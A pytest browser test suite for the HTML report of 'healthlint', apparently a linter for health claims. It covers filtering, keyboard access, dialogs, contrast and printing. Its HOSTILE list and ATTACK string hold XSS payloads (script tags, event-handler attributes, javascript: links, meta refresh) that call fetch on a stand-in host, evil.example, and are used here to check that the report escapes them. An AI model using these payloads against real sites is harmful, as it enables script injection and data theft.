"""The report in a browser, where there is one: it narrows, opens and prints by keyboard, and a draft stays text."""

import json
import re
from collections.abc import Iterator, Sequence
from pathlib import Path

import pytest
from msgspec.structs import replace

from healthlint.finding import Citable, Finding, Linted, RuleInfo
from healthlint.model import Document, Span
from healthlint.report import FORMATS, Run
from tests.browser import CHROMIUM, Page

pytestmark = pytest.mark.skipif(CHROMIUM is None, reason="no Chromium on this machine")

LAW = Citable(name="us-law", cite="21 CFR 101.93(g)", url="https://example.org/law", kind="law")
CURE = RuleInfo(
    id="disease-claim/cure",
    title="Cure claimed",
    severity="error",
    advice="Report what studies found.",
    authority=(LAW,),
    why="Readers may put off treatment.",
)
SAFE = RuleInfo(id="safety/absolute", title="Absolute safety", severity="warning", advice="Name harms.", authority=())
PLAIN = RuleInfo(id="tone/plain", title="Plain words", severity="info", advice="Say it.", authority=())
RULES = {rule.id: rule for rule in (SAFE, PLAIN, CURE)}

ATTACK = "window.owned = true; document.title = 'owned'; fetch('https://evil.example/')"
HOSTILE = [
    f"<script>{ATTACK}</script>",
    f'<img src="https://evil.example/x.png" onerror="{ATTACK}">',
    f'"><svg onload="{ATTACK}">',
    f"</style></title></textarea><script>{ATTACK}</script>",
    f"<iframe srcdoc='<script>parent.{ATTACK}</script>'></iframe>",
    f'<details open ontoggle="{ATTACK}">',
    f"[a link](javascript:{ATTACK.replace(' ', '')})",
    "<link rel=stylesheet href=https://evil.example/x.css><style>@import 'https://evil.example/y.css'</style>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<form action=https://evil.example/><input autofocus onfocus=alert(1)></form>",
    "unbroken" * 60,
]


def draft(path: str, text: str, *found: tuple[RuleInfo, str]) -> Linted:
    """A draft with a finding at each of these words; on the page as a whole where there are none."""
    starts = [0, *(match.end() for match in re.finditer("\n", text))]
    document = Document(
        path=path,
        text=text,
        prose=text,
        front_matter={},
        blocks=(),
        sentences=(),
        sections=(),
        links=(),
        citations=(),
        quotes=(),
        directives=(),
        faults=(),
        lines=tuple(starts),
    )
    return Linted(document=document, findings=tuple(finding(text, rule, words) for rule, words in found))


def finding(text: str, rule: RuleInfo, words: str) -> Finding:
    start = text.index(words)
    return Finding(
        rule=rule.id,
        severity=rule.severity,
        message=f"“{words}” says too much." if words else "The page names no reviewer.",
        span=Span(start, start + len(words)),
        advice=rule.advice,
        authority=rule.authority,
    )


KAVA = "# Kava\n\nKava cures anxiety and is completely safe, a journey of wellness.\n" + "Lorem ipsum.\n\n" * 40
DRAFTS = (
    draft("posts/kava.md", KAVA, (PLAIN, ""), (CURE, "cures anxiety"), (SAFE, "anxiety and is"), (PLAIN, "journey")),
    draft("posts/tea.md", "Tea is a journey.\n", (PLAIN, "journey")),
    draft("posts/fine.md", "Tea is a drink.\n"),
)


def run(*drafts: Linted, rules: dict[str, RuleInfo] = RULES) -> Run:
    return Run(linted=drafts, rules=rules, profile="article", jurisdictions=())


def written(folder: Path, made: Run) -> str:
    """The address of the report of a run."""
    file = folder / "report.html"
    file.write_text("".join(f"{line}\n" for line in FORMATS["html"](made)), encoding="utf-8")
    return file.as_uri()


@pytest.fixture(scope="module")
def browser(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Page]:
    with Page(tmp_path_factory.mktemp("browser")) as page:
        yield page


@pytest.fixture
def page(browser: Page, tmp_path: Path) -> Page:
    browser.look(1280)
    browser.open(written(tmp_path, run(*DRAFTS)))
    return browser


def seen(page: Page, selector: str) -> list[str]:
    """The text of the elements that are shown."""
    told = page.ask(
        f"[...document.querySelectorAll({json.dumps(selector)})].filter(one => one.getClientRects().length)"
        ".map(one => one.innerText)"
    )
    assert isinstance(told, list)
    return told


def looks(page: Page) -> list[list[str]]:
    told = page.ask("[...document.querySelectorAll('mark')].map(one => [one.textContent, one.className])")
    assert isinstance(told, list)
    return told


def focused(page: Page) -> str:
    told = page.ask("(document.activeElement.id || document.activeElement.className) + ''")
    assert isinstance(told, str)
    return told


def tab_to(page: Page, expression: str, most: int = 60) -> None:
    """Press Tab until the element that has the focus is so."""
    for _ in range(most):
        page.press("Tab")
        if page.ask(f"(one => {expression})(document.activeElement)"):
            return
    pytest.fail("the keyboard does not get there")


def test_severities_narrow_what_is_shown(page: Page) -> None:
    assert seen(page, "#shown") == ["5 findings shown."]
    assert len(seen(page, ".note")) == 5
    page.click('input[value="info"]')
    assert seen(page, "#shown") == ["2 findings of 5 shown."]
    assert len(seen(page, ".note")) == len(seen(page, ".ref")) == 2
    assert ["journey", "off"] in looks(page) and ["cures ", "error"] in looks(page)
    assert seen(page, ".draft > h2") == ["posts/kava.md"], "a draft without a finding that is shown is hidden"
    assert not seen(page, ".page-wide")
    page.click('input[value="error"]')
    assert ["cures ", "off"] in looks(page), "what is hidden is not marked"
    assert ["anxiety", "warning"] in looks(page), "what two findings cover is marked for the one that is shown"
    page.click('input[value="error"]')
    page.click('input[value="info"]')
    assert seen(page, "#shown") == ["5 findings shown."]
    assert ["anxiety", "error several"] in looks(page) and ["journey", "info"] in looks(page)


def test_families_narrow_what_is_shown(page: Page) -> None:
    page.ask("(one => { one.value = 'tone'; one.dispatchEvent(new Event('change', {bubbles: true})) })(family)")
    assert seen(page, "#shown") == ["3 findings of 5 shown."]
    assert len(seen(page, ".note")) == 3 and len(seen(page, ".draft")) == 2


def test_the_keyboard_reaches_everything(page: Page) -> None:
    page.press("Tab")
    assert focused(page) == "skip"
    assert page.ask("document.activeElement.getBoundingClientRect().top >= 0"), "the way past the head is seen"
    page.press("Enter")
    assert page.ask("location.hash") == "#content" and focused(page) == "content"
    tab_to(page, "one.value === 'error'")
    page.press(" ")
    assert seen(page, "#shown") == ["4 findings of 5 shown."]
    page.press(" ")
    tab_to(page, "one.id === 'd1-m2'")
    assert page.ask("getComputedStyle(document.activeElement).outlineStyle") == "solid"
    page.press("Enter")
    assert page.ask("location.hash") == "#d1-f2"
    tab_to(page, "one.matches('#d1-f2 summary')")
    assert "Report what studies found." not in " ".join(seen(page, "#d1-f2 details p"))
    page.press("Enter")
    assert seen(page, "#d1-f2 details p") == ["Report what studies found."]
    page.press("Tab", shift=True)
    assert page.ask("document.activeElement.matches('#d1-f2 a.rule')")


def test_a_rule_opens_over_the_page_and_gives_the_focus_back(page: Page) -> None:
    page.ask("document.querySelector('#d1-f2 a.rule').focus()")
    page.press("Enter")
    (said,) = seen(page, "dialog[open]")
    for part in ("Cure claimed", "“cures anxiety” says too much.", "Readers may put off", "21 CFR 101.93(g)", "law"):
        assert part in said
    assert focused(page) == "card-title"
    assert page.ask("document.querySelector('dialog').getAttribute('aria-labelledby')") == "card-title"
    tab_to(page, "one.textContent === 'Close'", 4)
    page.press("Enter")
    assert not seen(page, "dialog[open]") and page.ask("document.activeElement.matches('#d1-f2 a.rule')")
    page.press("Enter")
    page.press("Escape")
    assert not seen(page, "dialog[open]")
    assert page.ask("document.querySelectorAll('[id=rule-1]').length") == 1


def test_pointing_at_words_shows_their_notes(page: Page) -> None:
    page.ask("document.getElementById('d1-m3').focus()")
    assert page.ask("[...document.querySelectorAll('.note.here')].map(one => one.id)") == ["d1-f3"]
    assert page.ask("[...document.querySelectorAll('mark.here')].map(one => one.textContent)") == [
        "anxiety",
        " and is",
    ]


def test_notes_stand_beside_their_words_or_below_them(page: Page) -> None:
    beside = (
        "(() => { const note = document.getElementById('d1-f2').getBoundingClientRect();"
        "const line = document.getElementById('d1-m2').closest('.line').getBoundingClientRect();"
        "return [note.left >= line.right, Math.abs(note.top - line.top) < 60, note.top >= line.bottom] })()"
    )
    assert page.ask(beside) == [True, True, False]
    page.look(390)
    assert page.ask(beside) == [False, False, True]


def test_without_script_all_but_the_filters_is_there(browser: Page, tmp_path: Path) -> None:
    address = written(tmp_path, run(*DRAFTS))
    browser.look(1280)
    browser.script(False)
    try:
        browser.open(address)
        assert not seen(browser, "#filters")
        assert len(seen(browser, ".note")) == 5 and "Readers may put off" in " ".join(seen(browser, "#rule-1"))
        browser.click("#d1-f2 a.rule")
        assert browser.ask("location.hash") == "#rule-1"
        browser.click("#d1-f2 summary")
        assert seen(browser, "#d1-f2 details p") == ["Report what studies found."]
    finally:
        browser.script(True)


@pytest.mark.parametrize("dark", [False, True], ids=["light", "dark"])
def test_colours_are_told_apart(page: Page, dark: bool) -> None:
    page.look(1280, dark=dark)
    for selector in ("body", ".lead", ".meta", "mark.error", "mark.info", ".badge.error", ".badge.warning", ".ref"):
        assert contrast(page, selector) >= 4.5, selector
    assert (brightness(page, "body") < 0.1) == dark


LUMINANCE = """
(selector => {
  const parts = colour => colour.match(/[\\d.]+/g).map(Number);
  const light = ([red, green, blue]) => [red, green, blue]
    .map(one => one / 255).map(one => one <= 0.04045 ? one / 12.92 : ((one + 0.055) / 1.055) ** 2.4)
    .reduce((sum, one, at) => sum + one * [0.2126, 0.7152, 0.0722][at], 0);
  const one = document.querySelector(selector);
  let ground = one;
  while (ground && parts(getComputedStyle(ground).backgroundColor)[3] === 0) ground = ground.parentElement;
  return [light(parts(getComputedStyle(one).color)), light(parts(getComputedStyle(ground).backgroundColor))];
})
"""


def contrast(page: Page, selector: str) -> float:
    lights: Sequence[float] = sorted(page.ask(f"{LUMINANCE}({json.dumps(selector)})"))
    return (lights[1] + 0.05) / (lights[0] + 0.05)


def brightness(page: Page, selector: str) -> float:
    return float(page.ask(f"{LUMINANCE}({json.dumps(selector)})")[1])


def hostile() -> Run:
    """Every part of a report that anybody else writes says what it must not."""
    told = " ".join(HOSTILE)
    rule = RuleInfo(
        id=f"x/{told}",
        title=told,
        severity="error",
        advice=told,
        why=told,
        authority=(Citable(name="a", cite=told, url=f"javascript:{ATTACK}", kind=told),),
    )
    text = "\n\n".join(HOSTILE)
    drafts = [draft(f"{told}.md", text, *((rule, words) for words in HOSTILE), (rule, "")), DRAFTS[0]]
    return replace(run(*drafts, rules={**RULES, rule.id: rule}), notes=(told,), profile=told)


def test_a_hostile_draft_runs_nothing_and_asks_for_nothing(browser: Page, tmp_path: Path) -> None:
    browser.look(1280)
    browser.requests.clear()
    browser.complaints.clear()
    address = written(tmp_path, hostile())
    browser.open(address)
    for opened in ("details", "dialog"):
        browser.ask(f"document.querySelectorAll('{opened}').forEach(one => one.open = true)")
    browser.ask("document.querySelectorAll('a.rule').forEach(one => one.click())")
    browser.ask("new Promise(done => setTimeout(done, 300))")
    assert browser.ask("window.owned") is None
    assert browser.ask("document.title").endswith("healthlint report")
    assert browser.ask("document.querySelectorAll('img, iframe, main script, main style, main link').length") == 0
    assert browser.ask("location.href") == address
    assert [asked for asked in browser.requests if not asked.startswith("data:")] == [address]
    assert browser.complaints == []
    assert HOSTILE[0] in browser.ask("document.querySelector('.text').textContent")


def test_markup_that_slipped_through_could_do_nothing(browser: Page, tmp_path: Path) -> None:
    address = written(tmp_path, run(*DRAFTS))
    file = tmp_path / "report.html"
    slipped = f"<script>{ATTACK}</script><img src='https://evil.example/x.png' onerror=\"{ATTACK}\">"
    file.write_text(file.read_text(encoding="utf-8").replace("</main>", f"{slipped}</main>"), encoding="utf-8")
    browser.open(address)
    browser.ask("new Promise(done => setTimeout(done, 300))")
    assert browser.ask("window.owned") is None and browser.ask("document.title") != "owned"


@pytest.mark.parametrize("width", [360, 390, 768, 1280])
def test_nothing_is_scrolled_sideways(browser: Page, tmp_path: Path, width: int) -> None:
    for made in (run(*DRAFTS), hostile()):
        browser.look(width)
        browser.open(written(tmp_path, made))
        browser.ask("document.querySelectorAll('details').forEach(one => one.open = true)")
        assert browser.ask("document.documentElement.scrollWidth") == width


def test_on_paper_all_is_open_and_nothing_is_there_to_click(page: Page) -> None:
    page.look(800, media="print")
    assert seen(page, "#d1-f2 details p") == ["Report what studies found."]
    assert not seen(page, "#filters") and not seen(page, "header nav") and not seen(page, ".note summary")
    link = "getComputedStyle(document.querySelector('.card a[href]'), '::after').content"
    assert "https://example.org/law" in page.ask(link) or "attr(href)" in page.ask(link)
    page.look(1280)
    page.click('input[value="info"]')
    page.look(800, media="print")
    assert seen(page, "#shown") == ["2 findings of 5 shown."], "paper says that something is left out"
